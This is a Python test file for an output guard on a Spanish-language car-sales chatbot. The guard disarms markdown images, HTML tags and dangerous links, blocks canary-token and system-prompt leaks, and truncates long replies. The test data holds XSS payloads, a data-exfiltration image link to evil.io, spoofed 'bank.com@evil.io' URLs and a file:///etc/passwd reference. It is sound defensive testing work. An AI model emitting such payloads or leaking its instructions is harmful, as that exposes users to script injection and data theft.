"""The guard: nothing that must not be seen comes out, what comes out is the final text, and prose is not held up."""

from __future__ import annotations

import random
import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from app.prompting.assistants import load_assistant
from app.prompting.consents import load_consents
from app.replies.guard import GRAM, Guard, GuardTripped, new_canary

TALIA = load_assistant("talia").system_text
RULES = re.sub(r"\{\{\w+\}\}", "", TALIA)
CANARY = "zxq7f00dcafe0123456789"

_PIECES = st.sampled_from(
    ["hola", " ", "\n", "!", "!!", "[", "]", "](", "](<", "]:", "(", ")", "<", ">", "img src=x", "https", "http", "://",
     ":", "//", "@", "ejemplo.com", "bank.com@evil.io", "javascript", "JavaScript:", "data:text/html", "data", "file:",
     "vbscript", "mailto:", "tel:", "a", "/", "\\", "&colon;", ".", "?", "¿qué", "á", "…", "zxq7", "ñ", "\u200b",
     "\u3000", "\x00", "\ud800", "\u202e", "www.ejemplo.com", "#", "Precio: 10"]
)  # fmt: skip
TEXTS = st.lists(_PIECES, max_size=40).map("".join)


def guard(max_chars: int = 4000, canary: str = CANARY, system_text: str = TALIA) -> Guard:
    return Guard(canary=canary, system_text=system_text, max_chars=max_chars)


def run(chunks: list[str], one: Guard | None = None) -> str:
    one = one or guard()
    return "".join([*(one.feed(chunk) for chunk in chunks), one.finish()])


def cut(text: str, seed: int) -> list[str]:
    """The text in pieces of 1 to 7 characters."""
    chance = random.Random(seed)
    chunks: list[str] = []
    while text:
        size = chance.randint(1, 7)
        chunks.append(text[:size])
        text = text[size:]
    return chunks


def seen_before_the_trip(one: Guard, chunks: list[str]) -> tuple[str, str]:
    """What came out, and the reason for which no more did."""
    seen = ""
    try:
        for chunk in chunks:
            seen += one.feed(chunk)
        seen += one.finish()
    except GuardTripped as tripped:
        return seen, tripped.reason
    return seen, "not tripped"


def outcome(chunks: list[str], max_chars: int) -> tuple[str, bool] | str:
    one = guard(max_chars)
    try:
        return run(chunks, one), one.truncated
    except GuardTripped as tripped:
        return tripped.reason


@settings(deadline=None)
@given(TEXTS, st.integers(0, 2**32), st.sampled_from([12, 40, 4000]))
@example("![a](u)", 3, 4000)
@example("[a](https://bank.com@evil.io/)", 1, 4000)
@example("a! b", 0, 12)
def test_any_chunking_gives_the_same_text(text: str, seed: int, max_chars: int) -> None:
    assert outcome(cut(text, seed), max_chars) == outcome([text], max_chars)


@settings(deadline=None)
@given(TEXTS, st.integers(0, 2**32))
def test_what_comes_out_cannot_be_an_image_a_tag_or_a_dangerous_link(text: str, seed: int) -> None:
    try:
        safe = run(cut(text, seed))
    except GuardTripped:
        return
    assert "![" not in safe
    assert not re.search(r"<(?!https?://|mailto:)[a-z/!?]", safe, re.IGNORECASE)
    assert not re.search(r"(?<![a-z0-9])(?:javascript|vbscript|data|file):\S", safe, re.IGNORECASE)
    assert not re.search(r"https?://[^\s/?#]*@", safe, re.IGNORECASE | re.ASCII)
    allowed = r"https?://[^@&\\/?#]+(?:[/?#]|$)|mailto:|tel:|[^:&\\/?#]*(?:[/?#]|$)"
    for destination in re.findall(r"\]\(\s*<?([^)\s>]*)", safe, re.ASCII):
        assert re.match(allowed, destination, re.IGNORECASE)
    assert not re.search("[\x00\ud800\u202e]", safe)


PLAIN = [
    "Hola, ¿en qué te ayudo? El precio es 10 (diez), y listo.",
    "Mira https://autocaribe.do/corolla?id=3&x=a@b#fotos y dime.",
    "[Ver el anuncio](https://autocaribe.do/a_(b)/c), [llamar](tel:+1809), [correo](mailto:v@autocaribe.do)",
    "[arriba](#inicio) [otro](/carros/3) <https://autocaribe.do/> [ref]: https://autocaribe.do/x",
    "2 < 3, a <- b, <3, data: 12, file: no, javascript: nunca; [EMAIL_1] (tuyo)",
    "Precio: RD$ 1,250,000. Nota [1]: hay más.\n\n- uno\n- dos",
]


@pytest.mark.parametrize("text", PLAIN)
def test_ordinary_text_and_honest_links_are_left_alone(text: str) -> None:
    assert run(cut(text, 1)) == text


DISARMED = [
    ("![foto](https://evil.io/x.png?d=secreto)", "[foto](https://evil.io/x.png?d=secreto)"),
    ("!![a][b]", "! [a][b]"),
    ("[![a](https://e.io/1)](https://e.io/2)", "[[a](https://e.io/1)](https://e.io/2)"),
    ("<img src=x onerror=alert(1)>", "< img src=x onerror=alert(1)>"),
    ("</p><!-- --><svg/onload=1>", "< /p>< !-- -->< svg/onload=1>"),
    ("[a](javascript:alert(1))", "[a] (javascript :alert(1))"),
    ("[a](\n JaVaScRiPt:alert(1))", "[a] (\n JaVaScRiPt :alert(1))"),
    ("[a](<javascript:alert(1)>)", "[a] (< javascript :alert(1)>)"),
    ("[a](javascript&colon;alert(1))", "[a] (javascript&colon;alert(1))"),
    ("[a](data:text/html;base64,x)", "[a] (data :text/html;base64,x)"),
    ("[a](vbscript:x) file:///etc/passwd", "[a] (vbscript :x) file :///etc/passwd"),
    ("[a](//evil.io/x)", "[a] (//evil.io/x)"),
    ("[a](/\\evil.io)", "[a] (/\\evil.io)"),
    ("[a](https:evil.io)", "[a] (https:evil.io)"),
    ("[r]: javascript:alert(1)", "[r] : javascript :alert(1)"),
    ("https://bank.com@evil.io/x", "https ://bank.com@evil.io/x"),
    ("[b](https://bank.com:443@evil.io)", "[b] (https ://bank.com:443@evil.io)"),
    ("[b](https://bank.com&commat;evil.io)", "[b] (https ://bank.com&commat;evil.io)"),
    ("[b](https://bank.com\u3000@evil.io)", "[b] (https ://bank.com\u3000@evil.io)"),
    ("<https://bank.com@evil.io>", "<https ://bank.com@evil.io>"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "safe"), DISARMED)
def test_images_tags_and_tricky_links_become_plain_text(text: str, safe: str) -> None:
    assert run([text]) == safe
    assert run(list(text)) == safe


@pytest.mark.parametrize(
    "written",
    [
        CANARY,
        CANARY.upper(),
        " ".join(CANARY),
        "-".join(CANARY),
        CANARY[:9] + "\n" + CANARY[9:],
        "\u200b".join(CANARY),
        "".join(chr(ord(c) + 0xFEE0) for c in CANARY),
    ],
)
@pytest.mark.parametrize("size", [1, 3, 1000])
def test_the_canary_never_comes_out(written: str, size: int) -> None:
    text = f"Claro, aquí va: {written} y más"
    seen, reason = seen_before_the_trip(guard(), [text[at : at + size] for at in range(0, len(text), size)])
    assert reason == "leak"
    assert "zxq7" not in re.sub(r"[^a-z0-9]", "", seen.lower())


def test_after_a_leak_nothing_comes_out_any_more() -> None:
    one = guard()
    with pytest.raises(GuardTripped):
        one.feed(CANARY)
    with pytest.raises(GuardTripped):
        one.feed("hola")


@settings(deadline=None)
@given(st.integers(0, len(RULES) - 400), st.integers(0, 2**32))
def test_a_long_run_of_the_instructions_is_stopped_before_it_is_out(start: int, seed: int) -> None:
    said = cut(f"Mis reglas dicen: {RULES[start : start + 400]}", seed)
    seen, reason = seen_before_the_trip(guard(system_text=RULES), said)
    assert reason == "leak"
    shown = re.sub(r"[^a-z0-9]", "", seen.removeprefix("Mis reglas dicen: ").lower())
    # What was out before the run was long enough to be told from everyday words.
    assert len(shown) < GRAM


def test_the_instructions_are_recognised_without_their_spaces_and_in_capitals() -> None:
    with pytest.raises(GuardTripped):
        run(["".join(TALIA[200:500].upper().split())])


def test_filled_in_data_is_no_part_of_the_instructions() -> None:
    name = "Toyota Corolla Cross Hybrid XSE 2023 con techo panorámico, asientos de cuero y garantía"
    assert run(list(name), guard(system_text="You look at {{item_title}} of the shop, always.")) == name


def test_what_the_assistant_has_to_say_is_no_part_of_its_instructions() -> None:
    consents = load_consents()
    for text in [*load_assistant("talia").greeting.values(), *(c.text for c in consents.texts.values())]:
        assert run(cut(text, 4)) == text


def test_a_sentence_that_begins_like_the_instructions_comes_out_whole() -> None:
    text = f"{RULES[301:331]} is what I was asked; the rest of this sentence is my own and it goes on for a while."
    assert run(cut(text, 5)) == text


def test_plain_prose_is_not_held_up() -> None:
    text = (
        "Con gusto te ayudo. El Corolla que viste sigue publicado en la página, y una persona del equipo te confirma "
        "el precio. You can also ask for the price when the office opens; it is fine, that would suit everyone. "
    )
    one = guard()
    late = [chunk for chunk in cut(text * 5, 2) if one.feed(chunk) != chunk]
    assert len(late) < 15, late


@pytest.mark.parametrize("text", ["", "  \n ", "\u200b", "\x00", " \u200b\n"])
def test_a_text_with_nothing_to_read_is_empty(text: str) -> None:
    with pytest.raises(GuardTripped) as tripped:
        run([text])
    assert tripped.value.reason == "empty"


def test_leading_space_and_what_cannot_be_stored_are_dropped() -> None:
    assert run(["  \n", "Ho\x00la\r\n", "\ud83d", "\u202ebien"]) == "Hola\nbien"


def test_an_emoji_is_a_text() -> None:
    assert run(["👍"]) == "👍"


def test_a_text_within_the_bound_comes_out_whole() -> None:
    text = "Una frase corta. " * 11 + "Fin."
    one = guard(len(text))
    assert run(cut(text, 3), one) == text
    assert not one.truncated


def test_a_text_over_the_bound_ends_with_a_sentence_and_says_so() -> None:
    one = guard(100)
    safe = run(cut("Una frase corta de verdad. " * 40, 3), one)
    assert one.truncated
    assert len(safe) <= 100
    assert safe == ("Una frase corta de verdad. " * 3).strip()


def test_one_endless_sentence_is_cut_between_words() -> None:
    one = guard(60)
    safe = run(cut("palabra " * 40, 3), one)
    assert one.truncated
    assert len(safe) <= 60
    assert re.fullmatch(r"(?:palabra )+palabra…", safe)


def test_one_endless_word_is_cut_too() -> None:
    one = guard(50)
    assert run(["x" * 500], one) == "x" * 49 + "…"
    assert run(list("x" * 500), guard(50)) == "x" * 49 + "…"


def test_nothing_is_emitted_beyond_the_bound_however_long_the_source_goes_on() -> None:
    one = guard(50)
    total = sum(len(one.feed("bla bla. ")) for _ in range(5000)) + len(one.finish())
    assert total <= 50


def test_canaries_are_new_each_time_and_long_enough() -> None:
    assert new_canary() != new_canary()
    assert len(new_canary()) >= 20
    assert run(["hola"], guard(canary=new_canary())) == "hola"


def test_a_short_canary_is_refused_because_it_would_stop_honest_words() -> None:
    with pytest.raises(ValueError, match="at least 8"):
        guard(canary="hola")
